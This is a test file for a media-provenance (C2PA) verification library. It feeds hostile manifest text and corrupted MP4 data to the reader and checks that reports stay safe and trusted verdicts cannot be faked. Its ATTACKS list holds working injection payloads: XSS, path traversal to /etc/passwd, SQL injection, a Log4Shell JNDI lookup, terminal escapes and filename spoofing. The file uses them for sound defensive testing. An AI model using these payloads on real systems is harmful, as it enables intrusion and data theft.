"""Manifests and files made to hurt whoever reads them: every one gets an answer, and none of its text acts.

The strings are after the fashion of the injection tests that the C2PA tools publish for validators.
"""

import json
import struct
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from platemark_provenance.digest import JsonValue
from platemark_provenance.report_html import Page, page_article
from platemark_provenance.signing import SignedAsset
from platemark_provenance.trust import TrustStore
from platemark_provenance.verdict import Verdict, judge
from platemark_provenance.verification import ProvenanceReading, read_provenance

Leaf = tuple[bytes, bytes]
NOON = datetime(2026, 3, 14, 12, 0, tzinfo=UTC)
ATTACKS = [
    "<script>alert(document.domain)</script>",
    '"><img src=x onerror=alert(1)>',
    "a\x00b",
    "\x1b]0;owned\x07\x1b[2J",
    "\u202egpj.\u2066exe",
    "../../../../etc/passwd",
    "'; DROP TABLE clip; --",
    "${jndi:ldap://203.0.113.7/a}",
    "{0.__class__}%s%n",
    "\u3164\u200b",
    "가" * 20_000,
    "A" * 90_000,  # in seven places; the library takes no definition over a megabyte
]
BOUNDED = settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
KINDS = st.sampled_from([b"ftyp", b"uuid", b"moov", b"mdat", b"free", b"skip", b"jumb", b"meta", b"mfra", b"moof"])
BOXES = st.lists(st.tuples(KINDS, st.binary(max_size=64), st.integers(-12, 12)), min_size=1, max_size=6)


def _attack(text: str) -> dict[str, JsonValue]:
    """A manifest in which everything that takes text has this one."""
    step: JsonValue = {
        "action": "c2pa.created",
        "when": "2026-01-01T00:00:00Z",
        "softwareAgent": {"name": text},
        "description": text,
        "digitalSourceType": f"http://cv.iptc.org/{text}",
    }
    binding: JsonValue = {"alg": text, "blocks": [{"scope": {}, "value": text}]}
    return {
        "title": text,
        "claim_generator_info": [{"name": text or "x", "version": text}],
        "assertions": [
            {"label": "c2pa.actions.v2", "data": {"actions": [step]}},
            {"label": "c2pa.soft-binding", "data": binding},
        ],
    }


def _box(kind: bytes, content: bytes, lie: int = 0) -> bytes:
    """An MP4 box whose size is wrong by `lie`."""
    return struct.pack(">I", max(0, len(content) + 8 + lie)) + kind + content


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_from_a_manifest_is_shown_short_visible_and_never_acts(
    attack: str,
    plain_clip_bytes: bytes,
    own_leaf: Leaf,
    sign_foreign: Callable[..., bytes],
    trust: TrustStore,
    write_copy: Callable[[bytes], Path],
) -> None:
    path = write_copy(sign_foreign(plain_clip_bytes, own_leaf, _attack(attack)))

    report = judge(read_provenance(path, trust))

    shown = json.dumps(report.to_json(), ensure_ascii=False) + report.explain("en") + report.explain("ko")
    page = page_article(Page(report), "en")
    assert report.verdict is Verdict.TRUSTED
    assert len(shown) < 10_000
    assert [character for character in shown + page if not character.isprintable() and character != "\n"] == []
    assert "<script" not in page
    assert "<img" not in page


@pytest.mark.parametrize("attack", [*ATTACKS, "A" * 200_000])
def test_an_ingredients_text_is_as_harmless(
    attack: str,
    plain_clip_bytes: bytes,
    manifest: dict[str, JsonValue],
    own_leaf: Leaf,
    sign_foreign: Callable[..., bytes],
    trust: TrustStore,
    write_copy: Callable[[bytes], Path],
) -> None:
    still = ({"title": attack, "relationship": "inputTo"}, plain_clip_bytes)
    path = write_copy(sign_foreign(plain_clip_bytes, own_leaf, manifest, ingredients=(still,)))

    page = page_article(Page(judge(read_provenance(path, trust))), "ko")

    assert [character for character in page if not character.isprintable() and character != "\n"] == []
    assert "<script" not in page
    assert len(page) < 20_000


@BOUNDED
@given(BOXES, st.sampled_from(["before", "after", "instead"]))
def test_boxes_of_any_kind_around_a_signed_clip_get_an_answer_and_nothing_is_laundered(
    signed_clip: SignedAsset, trust: TrustStore, tmp_path: Path, boxes: list[tuple[bytes, bytes, int]], place: str
) -> None:
    made = b"".join(_box(kind, content, lie) for kind, content, lie in boxes)
    signed = signed_clip.path.read_bytes()
    content = {"before": made + signed, "after": signed + made, "instead": made}[place]
    (tmp_path / "boxes.mp4").write_bytes(content)

    reading = read_provenance(tmp_path / "boxes.mp4", trust)

    assert judge(reading).exit_code != 0 or _said(reading) == _said(read_provenance(signed_clip.path, trust))


@BOUNDED
@given(st.binary(max_size=600), st.integers(0, 400))
def test_any_bytes_written_over_the_manifest_never_change_what_a_trusted_file_says(
    signed_clip: SignedAsset, trust: TrustStore, tmp_path: Path, noise: bytes, offset: int
) -> None:
    content = bytearray(signed_clip.path.read_bytes())
    start = content.index(b"jumdc2pa") + offset
    content[start : start + len(noise)] = noise
    (tmp_path / "noise.mp4").write_bytes(content)

    reading = read_provenance(tmp_path / "noise.mp4", trust)

    assert judge(reading).exit_code != 0 or _said(reading) == _said(read_provenance(signed_clip.path, trust))


@BOUNDED
@given(st.data())
def test_a_flipped_bit_never_changes_the_history_of_a_trusted_file(
    signed_clip: SignedAsset, trust: TrustStore, tmp_path: Path, data: st.DataObject
) -> None:
    content = bytearray(signed_clip.path.read_bytes())
    start = content.index(b"jumdc2pa")
    content[data.draw(st.integers(start, start + len(signed_clip.manifest) - 40))] ^= 1 << data.draw(st.integers(0, 7))
    (tmp_path / "flipped.mp4").write_bytes(content)

    reading = read_provenance(tmp_path / "flipped.mp4", trust)

    before = read_provenance(signed_clip.path, trust)
    assert judge(reading).exit_code != 0 or reading.history == before.history


def _said(reading: ProvenanceReading) -> tuple[object, ...]:
    return (reading.signer, reading.signer_name, reading.generator, reading.own, reading.ai, reading.history)
